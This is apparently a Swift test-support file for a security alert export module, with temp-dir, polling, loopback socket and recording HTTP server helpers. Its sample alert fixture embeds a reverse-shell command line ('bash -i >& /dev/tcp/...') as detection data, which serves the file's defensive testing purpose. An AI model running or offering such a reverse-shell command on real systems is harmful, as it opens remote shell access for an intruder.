import MamoriTestSupport
import Foundation
import Glibc
import MamoriSystem
import Synchronization
@testable import MamoriExport

/// Gates for tests that need root (tmpfs mounts) or an external binary (rsyslogd): they run when
/// possible, and ALWAYS under CI=true, where a missing prerequisite is a failure, not a skip.
enum ExportGate {
    static let isRoot = Privilege.isRoot
    static let isCI = Privilege.isCI
    static let rootEnabled = Privilege.integrationEnabled
    static let rsyslogd: String? = ["/usr/sbin/rsyslogd", "/sbin/rsyslogd", "/usr/local/sbin/rsyslogd"]
        .first { FileManager.default.isExecutableFile(atPath: $0) }
    static let rsyslogEnabled = rsyslogd != nil || isCI
}

/// A fresh directory under /tmp, removed by `remove()`.
struct TempDir {
    let path: String
    init() {
        path = (try? TemporaryDirectory.create(prefix: "mamori-export-")) ?? "/tmp/mamori-export-\(getpid())"
    }
    func file(_ name: String) -> String { "\(path)/\(name)" }
    func remove() { try? FileManager.default.removeItem(atPath: path) }
}

/// Polls `condition` every 20 ms until true or `timeout` seconds pass; returns the last value.
func eventually(timeout: Double = 10, _ condition: () -> Bool) -> Bool {
    let deadline = Date().addingTimeInterval(timeout)
    while Date() < deadline {
        if condition() { return true }
        usleep(20_000)
    }
    return condition()
}

func readLines(_ path: String) -> [String] {
    guard let text = try? String(contentsOfFile: path, encoding: .utf8) else { return [] }
    return text.split(separator: "\n", omittingEmptySubsequences: true).map(String.init)
}

/// A sample alert with a realistic ECS body and fields that need escaping.
func sampleAlert(rule: String = "proc_reverse_shell", severity: AlertSeverity = .high, n: Int = 0,
                 incident: String = "inc-42", extraBody: String = "") -> ExportAlert {
    let jsonRule = rule.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"")
    let body = #"{"@timestamp":"2026-11-27T07:02:13.123456Z","event":{"kind":"alert","severity":80},"rule":{"id":"\#(jsonRule)","name":"Reverse shell \"bash -i\""},"process":{"pid":\#(1000 + n),"command_line":"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 ü"}\#(extraBody)}"# + "\n"
    return ExportAlert(line: Array(body.utf8), severity: severity, ruleId: rule, riskScore: 80 + n % 20,
                       incidentId: incident, techniques: ["T1059.004", "T1071"],
                       timeUnixNano: 1_795_763_533_123_456_789)
}

/// Binds port 0 on 127.0.0.1 to learn a free port, then releases it.
func freeLoopbackPort(datagram: Bool = false) -> UInt16 {
    let fd = socket(AF_INET, Int32(datagram ? SOCK_DGRAM.rawValue : SOCK_STREAM.rawValue), 0)
    defer { close(fd) }
    var sin = sockaddr_in()
    sin.sin_family = sa_family_t(AF_INET)
    sin.sin_addr.s_addr = inet_addr("127.0.0.1")
    _ = withUnsafePointer(to: &sin) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) } }
    var len = socklen_t(MemoryLayout<sockaddr_in>.size)
    _ = withUnsafeMutablePointer(to: &sin) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &len) } }
    return UInt16(bigEndian: sin.sin_port)
}

/// Connects a TCP socket to 127.0.0.1:`port` (blocking), or -1.
func connectLoopback(_ port: UInt16) -> Int32 {
    let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
    var sin = sockaddr_in()
    sin.sin_family = sa_family_t(AF_INET)
    sin.sin_port = port.bigEndian
    sin.sin_addr.s_addr = inet_addr("127.0.0.1")
    let rc = withUnsafePointer(to: &sin) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) } }
    if rc != 0 { close(fd); return -1 }
    return fd
}

/// Sends `request` over a fresh connection and reads the whole response (until close).
func httpExchange(port: UInt16, request: String, timeout: Int = 5) -> String? {
    let fd = connectLoopback(port)
    guard fd >= 0 else { return nil }
    defer { close(fd) }
    var tv = timeval(tv_sec: timeout, tv_usec: 0)
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, socklen_t(MemoryLayout<timeval>.size))
    let bytes = Array(request.utf8)
    guard send(fd, bytes, bytes.count, Int32(MSG_NOSIGNAL)) == bytes.count else { return nil }
    var response: [UInt8] = []
    var chunk = [UInt8](repeating: 0, count: 65536)
    while true {
        let n = recv(fd, &chunk, chunk.count, 0)
        if n <= 0 { break }
        response.append(contentsOf: chunk[0..<n])
    }
    return String(decoding: response, as: UTF8.self)
}

/// A real HTTP/1.1 server on 127.0.0.1 (own thread) that records each request's path, headers
/// and body and answers with the next status from `statuses` (the last one repeats).
final class RecordingHTTPServer: @unchecked Sendable {
    // SAFETY: `requests` and `statuses` are guarded by `lock`; the fd is owned by the thread.
    struct Request { var method: String; var path: String; var headers: [String: String]; var body: [UInt8] }
    private let lock = NSLock()
    private var requests: [Request] = []
    private var statuses: [Int]
    private let fd: Int32
    let port: UInt16
    private var running = true
    private let finished = DispatchSemaphore(value: 0)

    init(statuses: [Int]) {
        self.statuses = statuses
        let listener = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        var one: Int32 = 1
        setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, socklen_t(MemoryLayout<Int32>.size))
        var sin = sockaddr_in()
        sin.sin_family = sa_family_t(AF_INET)
        sin.sin_addr.s_addr = inet_addr("127.0.0.1")
        _ = withUnsafePointer(to: &sin) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(listener, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) } }
        listen(listener, 16)
        var len = socklen_t(MemoryLayout<sockaddr_in>.size)
        _ = withUnsafeMutablePointer(to: &sin) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(listener, $0, &len) } }
        fd = listener
        port = UInt16(bigEndian: sin.sin_port)
        Thread.detachNewThread { [self] in loop() }
    }

    var received: [Request] { lock.lock(); defer { lock.unlock() }; return requests }

    func stop() {
        lock.lock(); running = false; lock.unlock()
        shutdown(fd, Int32(SHUT_RDWR))
        finished.wait()
        close(fd)
    }

    private func loop() {
        defer { finished.signal() }
        while true {
            var pfd = pollfd(fd: fd, events: Int16(POLLIN), revents: 0)
            _ = poll(&pfd, 1, 100)
            lock.lock(); let go = running; lock.unlock()
            if !go { return }
            guard pfd.revents & Int16(POLLIN) != 0 else { continue }
            let client = accept(fd, nil, nil)
            guard client >= 0 else { continue }
            handle(client)
            close(client)
        }
    }

    private func handle(_ client: Int32) {
        var tv = timeval(tv_sec: 5, tv_usec: 0)
        setsockopt(client, SOL_SOCKET, SO_RCVTIMEO, &tv, socklen_t(MemoryLayout<timeval>.size))
        var data: [UInt8] = []
        var chunk = [UInt8](repeating: 0, count: 65536)
        var headerEnd: Int?
        var contentLength = 0
        while true {
            if headerEnd == nil, let r = find(data, [13, 10, 13, 10]) {
                headerEnd = r + 4
                let head = String(decoding: data[0..<r], as: UTF8.self)
                for line in head.split(separator: "\r\n").dropFirst() {
                    let kv = line.split(separator: ":", maxSplits: 1)
                    if kv.count == 2, kv[0].lowercased() == "content-length" { contentLength = Int(kv[1].trimmingCharacters(in: .whitespaces)) ?? 0 }
                }
            }
            if let h = headerEnd, data.count >= h + contentLength { break }
            let n = recv(client, &chunk, chunk.count, 0)
            if n <= 0 { return }
            data.append(contentsOf: chunk[0..<n])
        }
        let h = headerEnd!
        let head = String(decoding: data[0..<(h - 4)], as: UTF8.self)
        let lines = head.split(separator: "\r\n")
        let first = lines[0].split(separator: " ")
        var headers: [String: String] = [:]
        for line in lines.dropFirst() {
            let kv = line.split(separator: ":", maxSplits: 1)
            if kv.count == 2 { headers[kv[0].lowercased()] = kv[1].trimmingCharacters(in: .whitespaces) }
        }
        lock.lock()
        requests.append(Request(method: String(first[0]), path: String(first[1]), headers: headers, body: Array(data[h..<(h + contentLength)])))
        let status = statuses.count > 1 ? statuses.removeFirst() : statuses[0]
        lock.unlock()
        let response = "HTTP/1.1 \(status) X\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
        _ = send(client, response, response.utf8.count, Int32(MSG_NOSIGNAL))
    }

    private func find(_ hay: [UInt8], _ needle: [UInt8]) -> Int? {
        guard hay.count >= needle.count else { return nil }
        for i in 0...(hay.count - needle.count) where Array(hay[i..<(i + needle.count)]) == needle { return i }
        return nil
    }
}
